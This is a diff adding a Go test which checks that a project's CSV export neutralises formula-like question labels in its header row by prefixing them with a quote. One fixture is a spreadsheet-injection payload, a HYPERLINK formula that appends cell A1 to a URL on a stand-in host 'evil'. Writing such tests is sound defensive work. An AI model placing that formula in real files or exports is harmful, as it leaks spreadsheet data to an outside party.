@@ -562,3 +562,59 @@ func TestProjectTimelineUsesStaffZone(t *testing.T) {
 		}
 	})
 }
+
+// Question labels are typed by staff and land in the export's header row:
+// a label that is a formula is neutralised there as answers are in the
+// data rows, whether or not anyone has answered yet.
+func TestExportHeaderNeutralisesFormulas(t *testing.T) {
+	labels := []struct{ en, zh, want string }{
+		{`=HYPERLINK("http://evil/?"&A1,"x") Q`, "", `'=HYPERLINK("http://evil/?"&A1,"x") Q`},
+		{"+1+1", "", "'+1+1"},
+		{"-2+3", "", "'-2+3"},
+		{"@SUM(A1:A2)", "", "'@SUM(A1:A2)"},
+		{"", "=1+1 中文", "'=1+1 中文"}, // the header falls back to the Chinese label
+		{"How often do you cross?", "", "How often do you cross?"},
+	}
+	apptest.Each(t, func(t *testing.T, dbURL string) {
+		a := apptest.StartWith(t, dbURL, generous)
+		f := apptest.Seed(t, a)
+		ctx := context.Background()
+		p := openProject(t, a, f, "")
+		for _, l := range labels {
+			if _, err := a.Store.AddProjectQuestion(ctx, f.Member(models.RoleOwner), f.Account, p.ID, models.QuestionInput{
+				Kind: models.QuestionText, LabelEn: l.en, LabelZh: l.zh}); err != nil {
+				t.Fatal(err)
+			}
+		}
+		mod := a.Client(t)
+		mod.Login(f.ByRole[models.RoleModerator].Email, apptest.Password)
+		export := fmt.Sprintf("/studio/orgs/%d/accounts/metro/projects/%d/export.csv", f.Org.ID, p.ID)
+		header := func(t *testing.T) []string {
+			t.Helper()
+			r := mod.Get(export)
+			if r.Status != http.StatusOK {
+				t.Fatalf("export: %s", r)
+			}
+			head, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.Body, "\uFEFF"))).Read()
+			if err != nil {
+				t.Fatal(err)
+			}
+			return head
+		}
+		check := func(t *testing.T) {
+			head := header(t)
+			extra := head[len(head)-len(labels):]
+			for i, l := range labels {
+				if extra[i] != l.want {
+					t.Errorf("header cell for %q = %q, want %q", l.en+l.zh, extra[i], l.want)
+				}
+			}
+		}
+		t.Run("no answers", check)
+		r := a.Client(t).Post(fmt.Sprintf("/@metro/projects/%d/feedback", p.ID), url.Values{"stance": {"support"}, "consent": {"on"}})
+		if r.Status != http.StatusSeeOther {
+			t.Fatalf("answer: %s", r)
+		}
+		t.Run("with answers", check)
+	})
+}
